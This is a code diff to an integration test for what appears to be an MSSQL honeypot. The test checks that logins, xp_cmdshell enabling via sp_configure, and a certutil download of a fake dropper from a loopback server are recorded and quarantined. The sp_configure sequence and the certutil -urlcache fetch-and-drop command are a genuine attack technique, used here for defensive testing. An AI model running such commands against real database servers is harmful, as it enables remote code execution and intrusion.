@@ -3,10 +3,13 @@
 import { test, before, after } from 'node:test';
 import assert from 'node:assert/strict';
 import { createSocket } from 'node:dgram';
-import { writeFileSync } from 'node:fs';
+import { readFileSync, writeFileSync } from 'node:fs';
+import { createHash } from 'node:crypto';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { join } from 'node:path';
 import { Connection, Request } from 'tedious';
-import { startApiaryProcess, type ApiaryProcess } from '../../helpers/apiary-process.js';
+import { startApiaryProcess, waitFor, type ApiaryProcess } from '../../helpers/apiary-process.js';
 import { run } from '../../helpers/ssh-tools.js';
 import { SSRP_ANSWERS_PER_WINDOW } from '../../../src/sensors/mssql/browser.js';
 
@@ -20,6 +23,7 @@ before(async () => {
     auth: [{ user: 'sa', password: ['123456', 'P@ssw0rd'], allow: true }],
     services: { mssql: { listen: ['127.0.0.1:0'], version: '15.0.4322.2', server_name: 'SQLPROD01', browser: { listen: ['127.0.0.1:0'] } } },
     decoy: { database: 'webshop' },
+    fetch: { enabled: true, allow_cidrs: ['127.0.0.0/8'] },
   });
   port = apiary.ports.mssql!;
   browserPort = apiary.ports['mssql-browser']!;
@@ -64,7 +68,12 @@ function batch(c: Connection, sql: string): Promise<unknown[][]> {
   });
 }
 
-test('tedious (npm) logs in, runs SELECT @@version, sp_configure and xp_cmdshell with a download, all recorded', async () => {
+test('tedious (npm) logs in, runs SELECT @@version, sp_configure and xp_cmdshell whose download lands in quarantine', async () => {
+  // The dropper the xp_cmdshell line fetches, served by the test on loopback.
+  const payload = Buffer.from('MZ fake dropper for the mssql test');
+  const web = createServer((_req, res) => res.end(payload));
+  await new Promise<void>((r) => web.listen(0, '127.0.0.1', r));
+  const url = `http://127.0.0.1:${(web.address() as AddressInfo).port}/p.exe`;
   await assert.rejects(tediousConnect('wrong-password'), /Login failed for user 'sa'/);
   const c = await tediousConnect('123456', 'webshop');
   try {
@@ -73,19 +82,25 @@ test('tedious (npm) logs in, runs SELECT @@version, sp_configure and xp_cmdshell
     const admins = await batch(c, 'SELECT username, password FROM admins ORDER BY id');
     assert.equal(admins.length, 5);
     await batch(c, "EXEC sp_configure 'show advanced options', 1; RECONFIGURE; EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE");
-    const out = await batch(c, "EXEC xp_cmdshell 'certutil -urlcache -split -f http://127.0.0.1:9/p.exe C:\\Users\\Public\\p.exe'");
+    const out = await batch(c, `EXEC xp_cmdshell 'certutil -urlcache -split -f ${url} C:\\Users\\Public\\p.exe'`);
     assert.deepEqual(out, [[null]]);
     await assert.rejects(batch(c, 'SELECT * FROM nothere'), /Invalid object name 'nothere'/);
   } finally {
     c.close();
   }
+  const sha = createHash('sha256').update(payload).digest('hex');
+  await waitFor(async () => (await apiary.events(['--type', 'file.download'])).some((e) => e.url === url), 10_000);
+  web.close();
   const events = await apiary.events();
   assert.ok(events.some((e) => e.type === 'auth.attempt' && e.password === 'wrong-password' && e.success === false));
   const exploits = events.filter((e) => e.type === 'exploit.attempt');
   assert.ok(exploits.some((e) => e.name === 'mssql.sp_configure' && e.detail === 'xp_cmdshell = 1'));
   assert.ok(exploits.some((e) => e.name === 'mssql.sp_configure' && e.detail === 'show advanced options = 1'));
   assert.ok(exploits.some((e) => e.name === 'mssql.xp_cmdshell' && String(e.detail).startsWith('certutil -urlcache')));
-  assert.ok(events.some((e) => e.type === 'file.download' && e.url === 'http://127.0.0.1:9/p.exe' && e.outcome === 'disabled'));
+  const dl = events.find((e) => e.type === 'file.download' && e.url === url);
+  assert.equal(dl?.outcome, 'stored', JSON.stringify(dl));
+  assert.equal(dl?.sha256, sha);
+  assert.deepEqual(readFileSync(join(apiary.dir, 'data', 'quarantine', sha)), payload);
 });
 
 test('hydra mssql finds the password; every TDS login is stored with its password in plaintext', async () => {
